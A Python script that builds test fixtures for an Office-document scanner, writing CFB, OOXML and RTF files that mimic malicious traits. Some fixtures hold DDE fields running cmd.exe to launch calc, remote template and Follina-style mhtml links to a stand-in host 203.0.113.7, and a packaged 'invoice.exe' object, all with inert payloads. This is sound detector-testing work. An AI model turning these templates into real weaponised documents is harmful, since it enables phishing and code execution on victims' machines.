#!/usr/bin/env python3
"""Make the Office fixtures of tests/check_office.c (and builders that
tests/golden/gen_office.py imports).

usage: make.py [OUTDIR]     (default: the directory of this script)

Everything is made here from nothing (Python 3 standard library only):
a small writer of Compound File Binary files ([MS-CFB] version 3 with
512-byte sectors and version 4 with 4096-byte ones, mini stream
included), OOXML zips, RTF.  "Macros" are dummy VBA storage names and a
line of text, not a VBA project; every "executable" is an inert PE header
without code.  Output is deterministic.
"""

import io
import os
import struct
import sys
import zipfile

FREE, END, FATSECT = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
NOSTREAM = 0xFFFFFFFF
ZIP_TIME = (2024, 4, 1, 9, 0, 0)


# ---- harmless stubs -------------------------------------------------

def pe_stub():
    """DOS header + "PE\\0\\0" + COFF + empty PE32 optional header."""
    dos = bytearray(0x80)
    dos[0:2] = b"MZ"
    struct.pack_into("<I", dos, 0x3c, 0x80)
    coff = struct.pack("<4sHHIIIHH", b"PE\0\0", 0x14c, 0, 0x66000000,
                       0, 0, 0xe0, 0x0102)
    opt = bytearray(0xe0)
    struct.pack_into("<HBB", opt, 0, 0x10b, 14, 0)
    struct.pack_into("<HH", opt, 68, 2, 0)
    img = bytes(dos) + coff + bytes(opt)
    return img + bytes(0x200 - len(img))


# ---- Compound File Binary writer ------------------------------------

class Node:
    """A storage (children) or a stream (data)."""

    def __init__(self, name, data=None, children=None):
        self.name = name
        self.data = data
        self.children = children if children is not None else []

    @property
    def stream(self):
        return self.data is not None


def stream(name, data):
    return Node(name, data=data)


def storage(name, *children):
    return Node(name, children=list(children))


def _order(n):
    return (len(n.name), n.name.upper())


def _flatten(root):
    """Directory order: DFS; siblings chained through right links."""
    ents = []

    def add(node):
        i = len(ents)
        ents.append({"node": node, "left": NOSTREAM, "right": NOSTREAM,
                     "child": NOSTREAM})
        kids = sorted(node.children, key=_order)
        prev = None
        for k in kids:
            j = add(k)
            if prev is None:
                ents[i]["child"] = j
            else:
                ents[prev]["right"] = j
            prev = j
        return i
    add(root)
    return ents


def _direntry(name, typ, left, right, child, start, size):
    raw = name.encode("utf-16-le")[:62]
    nm = raw + b"\0\0"
    return (nm.ljust(64, b"\0") + struct.pack("<HBB", len(nm), typ, 1)
            + struct.pack("<III", left, right, child) + bytes(16)
            + struct.pack("<I", 0) + bytes(16)
            + struct.pack("<IQ", start, size))


def cfb(root_children, v4=False, cutoff=4096):
    """A CFB file whose root holds root_children; returns bytes."""
    ssz = 4096 if v4 else 512
    msz = 64
    ents = _flatten(Node("Root Entry", children=list(root_children)))
    mini = bytearray()
    minifat = []
    big = []                      # (entry index, data)
    for i, e in enumerate(ents):
        n = e["node"]
        if not n.stream:
            e["start"], e["size"] = (END if i else 0), 0
            continue
        e["size"] = len(n.data)
        if len(n.data) < cutoff:
            if not n.data:
                e["start"] = END
                continue
            first = len(mini) // msz
            count = (len(n.data) + msz - 1) // msz
            mini += n.data + bytes(count * msz - len(n.data))
            for k in range(count):
                minifat.append(first + k + 1 if k + 1 < count else END)
            e["start"] = first
        else:
            big.append((i, n.data))
    per = ssz // 4
    dir_bytes = b""
    nsec_dir = (len(ents) * 128 + ssz - 1) // ssz
    nsec_minifat = (len(minifat) * 4 + ssz - 1) // ssz
    nsec_mini = (len(mini) + ssz - 1) // ssz
    nsec_big = sum((len(d) + ssz - 1) // ssz for _, d in big)
    other = nsec_dir + nsec_minifat + nsec_mini + nsec_big
    nfat = 1
    while (nfat + other + per - 1) // per > nfat:
        nfat += 1
    fat = [FREE] * (nfat * per)
    pos = 0

    def chain(count):
        nonlocal pos
        first = pos
        for k in range(count):
            fat[pos] = pos + 1 if k + 1 < count else END
            pos += 1
        return first if count else END
    for k in range(nfat):
        fat[pos] = FATSECT
        pos += 1
    dir_start = chain(nsec_dir)
    minifat_start = chain(nsec_minifat)
    mini_start = chain(nsec_mini)
    for i, d in big:
        ents[i]["start"] = chain((len(d) + ssz - 1) // ssz)
    ents[0]["start"] = mini_start if mini else END
    ents[0]["size"] = len(mini)
    for i, e in enumerate(ents):
        typ = 5 if i == 0 else (2 if e["node"].stream else 1)
        dir_bytes += _direntry(e["node"].name, typ, e["left"], e["right"],
                               e["child"], e["start"], e["size"])

    def pad(b):
        return b + bytes(-len(b) % ssz)
    hdr = bytearray(512)
    hdr[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", hdr, 0x18, 0x3e, 4 if v4 else 3, 0xfffe,
                     12 if v4 else 9, 6)
    struct.pack_into("<IIIIIIIII", hdr, 0x28, nsec_dir if v4 else 0,
                     nfat, dir_start, 0, cutoff,
                     minifat_start, nsec_minifat, END, 0)
    for k in range(109):
        struct.pack_into("<I", hdr, 0x4c + 4 * k, k if k < nfat else FREE)
    out = bytearray(pad(bytes(hdr)))
    out += b"".join(struct.pack("<I", x) for x in fat)
    out += pad(dir_bytes + bytes(-len(dir_bytes) % 128))
    mf = b"".join(struct.pack("<I", x) for x in minifat)
    out += pad(mf + b"\xff" * (-len(mf) % ssz)) if minifat else b""
    out += pad(bytes(mini))
    for _, d in big:
        out += pad(d)
    return bytes(out)


# ---- Office content stubs --------------------------------------------

def fib(encrypted=False):
    """WordDocument stream start: FibBase (wIdent, nFib, flags)."""
    flags = 0x0100 if encrypted else 0
    return struct.pack("<HHHHHH", 0xa5ec, 0xc1, 0, 0x409, 0, flags) \
        + bytes(500)


def biff(sheets, filepass=False):
    """A Workbook stream: BOF, [FILEPASS], BoundSheet8 records, EOF."""
    def rec(t, body):
        return struct.pack("<HH", t, len(body)) + body
    out = rec(0x0809, struct.pack("<HHHHII", 0x0600, 5, 0x1234, 1997, 0,
                                  0x06))
    if filepass:
        out += rec(0x002f, struct.pack("<HHH", 1, 1, 1) + bytes(48))
    for name, dt, hidden in sheets:
        body = struct.pack("<IBBBB", 0, hidden, dt, len(name), 0)
        out += rec(0x0085, body + name.encode("latin-1"))
    out += rec(0x000a, b"")
    # a worksheet substream, so that the stream is not only globals
    out += rec(0x0809, struct.pack("<HHHHII", 0x0600, 0x10, 0, 0, 0, 0))
    out += rec(0x000a, b"")
    return out


def package(label, path, data):
    """The body of an Ole10Native stream (after its size): the packager's
    header (type 2, label, source path, reserved, type 3, temp path) and
    the file."""
    tmp = b"C:\\Users\\user\\AppData\\Local\\Temp\\" + label + b"\0"
    return (struct.pack("<H", 2) + label + b"\0" + path + b"\0"
            + struct.pack("<HHI", 0, 3, len(tmp)) + tmp
            + struct.pack("<I", len(data)) + data)


def ole10native(label, path, data):
    body = package(label, path, data)
    return struct.pack("<I", len(body)) + body


def vba_storages():
    """Dummy VBA storage names (not a real VBA project)."""
    return storage("VBA",
                   stream("dir", b"\x01" + bytes(40)),
                   stream("_VBA_PROJECT", b"\xcc\x61" + bytes(5)),
                   stream("ThisDocument",
                          b"Attribute VB_Name = \"ThisDocument\"\r\n"))


def vba_project_bin():
    """A vbaProject.bin shaped CFB: VBA storage and PROJECT stream."""
    return cfb([vba_storages(), stream("PROJECT", b"ID=\"{0}\"\r\n")])


def doc_clean():
    return cfb([stream("WordDocument", fib()),
                stream("1Table", bytes(600)),
                stream("\x05SummaryInformation", bytes(200))])


def doc_vba():
    return cfb([stream("WordDocument", fib()),
                stream("1Table", bytes(600)),
                storage("Macros", vba_storages(),
                        stream("PROJECT", b"ID=\"{0}\"\r\n"))])


def doc_package(label=b"invoice.exe", data=None):
    data = pe_stub() if data is None else data
    return cfb([stream("WordDocument", fib()),
                storage("ObjectPool",
                        storage("_1234567890",
                                stream("\x01Ole10Native",
                                       ole10native(label,
                                                   b"C:\\tmp\\" + label,
                                                   data)),
                                stream("\x01CompObj", bytes(80))))])


def xls(sheets, filepass=False, v4=False, vba=False):
    kids = [stream("Workbook", biff(sheets, filepass))]
    if vba:
        kids.append(storage("_VBA_PROJECT_CUR", vba_storages()))
    return cfb(kids, v4=v4)


def encrypted_ooxml():
    return cfb([stream("EncryptionInfo", struct.pack("<HHI", 4, 4, 0x40)
                       + bytes(200)),
                stream("EncryptedPackage", struct.pack("<Q", 9000)
                       + bytes(range(256)) * 40),
                storage("\x06DataSpaces",
                        stream("Version", bytes(76)))])


def equation_doc():
    return cfb([stream("WordDocument", fib()),
                storage("ObjectPool",
                        storage("_1", stream("Equation Native",
                                             bytes(64))))])


def cfb_loops():
    """A CFB whose FAT chains, directory tree and sizes are hostile."""
    d = bytearray(doc_vba())
    # FAT entry of the directory sector points to itself: a loop
    fat = 512
    dir_start = struct.unpack_from("<I", d, 0x30)[0]
    struct.pack_into("<I", d, fat + 4 * dir_start, dir_start)
    # every child link of the directory points back to the root
    for off in range(512 * (dir_start + 1), 512 * (dir_start + 2), 128):
        struct.pack_into("<I", d, off + 0x4c, 0)
        struct.pack_into("<Q", d, off + 0x78, 0xffffffff)
    return bytes(d)


def cfb_bad_sectors():
    """Sector numbers out of range everywhere."""
    d = bytearray(doc_vba())
    struct.pack_into("<I", d, 0x30, 0x7ffffff0)     # directory start
    struct.pack_into("<I", d, 0x3c, 0x7ffffff1)     # minifat start
    struct.pack_into("<I", d, 0x2c, 0xffffffff)     # FAT sector count
    for k in range(109):
        struct.pack_into("<I", d, 0x4c + 4 * k, 0x10000 + k)
    return bytes(d)


# ---- OOXML -------------------------------------------------------------

NS = "http://schemas.openxmlformats.org"
REL = NS + "/officeDocument/2006/relationships"


def zip_of(members):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members:
            if isinstance(data, str):
                data = data.encode("utf-8")
            z.writestr(zipfile.ZipInfo(name, ZIP_TIME), data,
                       compress_type=zipfile.ZIP_STORED
                       if name == "mimetype" else zipfile.ZIP_DEFLATED)
    return buf.getvalue()


def types(overrides, defaults=""):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Types xmlns="%s/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/'
            'vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '%s%s</Types>' % (NS, defaults, "".join(
                '<Override PartName="%s" ContentType="%s"/>' % o
                for o in overrides)))


def rels(items):
    """items: (id, type, target, external)."""
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<Relationships xmlns="%s/package/2006/relationships">%s'
            '</Relationships>' % (NS, "".join(
                '<Relationship Id="%s" Type="%s/%s" Target="%s"%s/>'
                % (i, REL, t, tg, ' TargetMode="External"' if ext else "")
                for i, t, tg, ext in items)))


WORD_MAIN = ("application/vnd.openxmlformats-officedocument."
             "wordprocessingml.document.main+xml")
WORD_MACRO = "application/vnd.ms-word.document.macroEnabled.main+xml"


def word_body(inner):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            '<w:document xmlns:w="%s/wordprocessingml/2006/main" '
            'xmlns:r="%s"><w:body>%s</w:body></w:document>'
            % (NS, REL, inner))


def para(text):
    return "<w:p><w:r><w:t>%s</w:t></w:r></w:p>" % text


def docx(body=None, main=WORD_MAIN, extra=(), doc_rels=(),
         settings_rels=(), defaults=""):
    body = body if body is not None else para("紹介状 ご高配を賜り")
    members = [("[Content_Types].xml",
                types([("/word/document.xml", main)], defaults)),
               ("_rels/.rels", rels([("rId1", "officeDocument",
                                      "word/document.xml", False)])),
               ("word/document.xml", word_body(body))]
    if doc_rels:
        members.append(("word/_rels/document.xml.rels", rels(doc_rels)))
    if settings_rels:
        members.append(("word/settings.xml",
                        '<w:settings xmlns:w="%s/wordprocessingml/2006/'
                        'main" xmlns:r="%s"><w:attachedTemplate '
                        'r:id="rId1"/></w:settings>' % (NS, REL)))
        members.append(("word/_rels/settings.xml.rels",
                        rels(settings_rels)))
    return zip_of(members + list(extra))


def dde_field(*runs):
    """A complex field whose instruction text is split into runs."""
    out = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    for r in runs:
        out += ('<w:r><w:instrText xml:space="preserve">%s</w:instrText>'
                '</w:r>' % r)
    out += ('<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            '<w:r><w:t>1</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    return out


def xlsx(extra=(), overrides=(), sheet_text="日勤"):
    main = ("application/vnd.openxmlformats-officedocument."
            "spreadsheetml.sheet.main+xml")
    wb = ('<workbook xmlns="%s/spreadsheetml/2006/main" xmlns:r="%s">'
          '<sheets><sheet name="4月" sheetId="1" r:id="rId1"/></sheets>'
          '</workbook>' % (NS, REL))
    sheet = ('<worksheet xmlns="%s/spreadsheetml/2006/main"><sheetData>'
             '<row r="1"><c r="A1" t="inlineStr"><is><t>%s</t></is></c>'
             '</row></sheetData></worksheet>' % (NS, sheet_text))
    return zip_of([("[Content_Types].xml",
                    types([("/xl/workbook.xml", main)] + list(overrides))),
                   ("_rels/.rels", rels([("rId1", "officeDocument",
                                          "xl/workbook.xml", False)])),
                   ("xl/workbook.xml", wb),
                   ("xl/_rels/workbook.xml.rels",
                    rels([("rId1", "worksheet", "worksheets/sheet1.xml",
                           False)])),
                   ("xl/worksheets/sheet1.xml", sheet)] + list(extra))


def pptx():
    main = ("application/vnd.openxmlformats-officedocument."
            "presentationml.presentation.main+xml")
    pres = ('<p:presentation xmlns:p="%s/presentationml/2006/main" '
            'xmlns:r="%s"><p:sldIdLst><p:sldId id="256" r:id="rId2"/>'
            '</p:sldIdLst></p:presentation>' % (NS, REL))
    slide = ('<p:sld xmlns:p="%s/presentationml/2006/main" xmlns:a="%s/'
             'drawingml/2006/main"><p:cSld><p:spTree><p:sp><p:txBody>'
             '<a:p><a:r><a:t>院内感染対策研修</a:t></a:r></a:p>'
             '</p:txBody></p:sp></p:spTree></p:cSld></p:sld>' % (NS, NS))
    return zip_of([("[Content_Types].xml",
                    types([("/ppt/presentation.xml", main)])),
                   ("_rels/.rels", rels([("rId1", "officeDocument",
                                          "ppt/presentation.xml", False)])),
                   ("ppt/presentation.xml", pres),
                   ("ppt/_rels/presentation.xml.rels",
                    rels([("rId2", "slide", "slides/slide1.xml", False)])),
                   ("ppt/slides/slide1.xml", slide),
                   ("ppt/media/image1.png", b"\x89PNG\r\n\x1a\n" +
                    bytes(64))])


def odt_basic():
    return zip_of([("mimetype", "application/vnd.oasis.opendocument.text"),
                   ("content.xml", "<office:document-content/>"),
                   ("Basic/script-lc.xml", "<library:libraries/>"),
                   ("Basic/Standard/script-lb.xml", "<library:library/>"),
                   ("Basic/Standard/Module1.xml",
                    "<script:module>Sub Main\nEnd Sub</script:module>"),
                   ("META-INF/manifest.xml", "<manifest:manifest/>")])


# ---- RTF ---------------------------------------------------------------

def ole1(cls, native, fmt=2, topic=b""):
    """An OLE1 ObjectHeader ([MS-OLEDS] 2.2.4) with native data."""
    def lstr(s):
        s = s + b"\0" if s else b""
        return struct.pack("<I", len(s)) + s
    out = struct.pack("<II", 0x0501, fmt) + lstr(cls) + lstr(topic) \
        + lstr(b"")
    if fmt == 2:
        out += struct.pack("<I", len(native)) + native
    return out


def hexlines(b, width=64):
    h = b.hex()
    return "\n".join(h[i:i + width] for i in range(0, len(h), width))


def rtf_text(s):
    """Text in CP932 with \\'hh escapes, as Japanese Word writes it."""
    return "".join(chr(b) if b < 0x80 else "\\'%02x" % b
                   for b in s.encode("cp932"))


def rtf(body):
    return ("{\\rtf1\\ansi\\ansicpg932\\deff0{\\fonttbl{\\f0 MS Mincho;}}"
            "\n%s\n\\par}\n" % body).encode("ascii")


def rtf_object(cls, native, extra=""):
    return rtf("{\\object\\objemb%s{\\*\\objclass %s}\\objw100\\objh100"
               "{\\*\\objdata\n%s\n}{\\result {\\pict}}}"
               % (extra, cls.decode(), hexlines(ole1(cls, native))))


def noise(n):
    """Incompressible but deterministic bytes (an LCG)."""
    out, x = bytearray(n), 12345
    for i in range(n):
        x = (x * 1103515245 + 12345) & 0x7fffffff
        out[i] = x >> 16 & 0xff
    return bytes(out)


def fixtures():
    pe = pe_stub()
    return {
        "clean.doc": doc_clean(),
        "vba.doc": doc_vba(),
        "vba-v4.xls": xls([("Sheet1", 0, 0)], v4=True, vba=True),
        "xlm.xls": xls([("Sheet1", 0, 0), ("Macro1", 1, 2)]),
        "clean.xls": xls([("Sheet1", 0, 0), ("Sheet2", 0, 1)]),
        "filepass.xls": xls([("Sheet1", 0, 0)], filepass=True),
        "encrypted.docx": encrypted_ooxml(),
        "encrypted.doc": cfb([stream("WordDocument", fib(True))]),
        "package.doc": doc_package(),
        "equation.doc": equation_doc(),
        "loops.doc": cfb_loops(),
        "badsect.doc": cfb_bad_sectors(),
        "clean.docx": docx(doc_rels=[
            ("rId5", "hyperlink", "https://www.mhlw.go.jp/", True)],
            settings_rels=[("rId1", "attachedTemplate",
                            "file:///C:/Users/yamada/Documents/"
                            "%E7%B4%B9%E4%BB%8B%E7%8A%B6.dotx", True)]),
        "macro-ct.docx": docx(main=WORD_MACRO),
        "vba.docm": docx(main=WORD_MACRO, extra=[
            ("word/vbaProject.bin", vba_project_bin())],
            defaults='<Default Extension="bin" ContentType="application/'
            'vnd.ms-office.vbaProject"/>'),
        "template.docx": docx(settings_rels=[
            ("rId1", "attachedTemplate", "http://203.0.113.7/t.dotm",
             True)]),
        "follina.docx": docx(doc_rels=[
            ("rId9", "oleObject",
             "mhtml:http://203.0.113.7/a.html!x-usc:http://203.0.113.7/"
             "a.html", True)]),
        "dde.docx": docx(body=dde_field(
            "DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe "
            "&quot;/k calc&quot;")),
        "dde-simple.docx": docx(body='<w:p><w:fldSimple w:instr=" '
                                'DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/c '
                                'calc&quot;"><w:r><w:t>x</w:t></w:r>'
                                '</w:fldSimple></w:p>'),
        "dde-quote.docx": docx(body=dde_field(
            "QUOTE 68 68 69 65 85 84 79 32 99 58 92")),
        "field-ok.docx": docx(body=dde_field(" PAGE ") + dde_field(
            " HYPERLINK &quot;https://www.mhlw.go.jp/&quot; ")),
        "embedded.docx": docx(extra=[
            ("word/embeddings/oleObject1.bin", doc_package()),
            ("word/media/image1.png", pe)]),
        "reordered.docm": zip_of([
            ("docProps/thumbnail.jpeg", noise(2000)),
            ("word/document.xml", word_body(para("x"))),
            ("word/vbaProject.bin", vba_project_bin()),
            ("_rels/.rels", rels([("rId1", "officeDocument",
                                   "word/document.xml", False)])),
            ("[Content_Types].xml", types([("/word/document.xml",
                                            WORD_MACRO)]))]),
        "clean.xlsx": xlsx(),
        "xlm.xlsx": xlsx(extra=[("xl/macrosheets/sheet1.xml",
                                 "<xm:macrosheet/>")],
                         overrides=[("/xl/macrosheets/sheet1.xml",
                                     "application/vnd.ms-excel."
                                     "macrosheet+xml")]),
        "ddelink.xlsx": xlsx(extra=[(
            "xl/externalLinks/externalLink1.xml",
            '<externalLink xmlns="%s/spreadsheetml/2006/main"><ddeLink '
            'ddeService="cmd" ddeTopic="/c calc"/></externalLink>' % NS)]),
        "clean.pptx": pptx(),
        "basic.odt": odt_basic(),
        "clean.rtf": rtf("{\\pard %s\\par}" % rtf_text("検査結果のご報告")),
        "package.rtf": rtf_object(b"Package", package(
            b"invoice.exe", b"C:\\tmp\\invoice.exe", pe)),
        "equation.rtf": rtf_object(b"Equation.3", bytes(100),
                                   extra="\\objupdate"),
        "dde.rtf": rtf("{\\field{\\*\\fldinst {\\rtlch DDE}{AUTO "
                       "c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"}}"
                       "{\\fldrslt {x}}}"),
        "template.rtf": rtf("{\\*\\template http://203.0.113.7/t.dotm}"
                            "{\\pard x\\par}"),
        "field-ok.rtf": rtf("{\\field{\\*\\fldinst { PAGE }}{\\fldrslt "
                            "{1}}}{\\*\\template C:\\\\Users\\\\a\\\\"
                            "Normal.dotm}"),
    }


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else \
        os.path.dirname(os.path.abspath(__file__))
    os.makedirs(out, exist_ok=True)
    for name, data in sorted(fixtures().items()):
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    main()
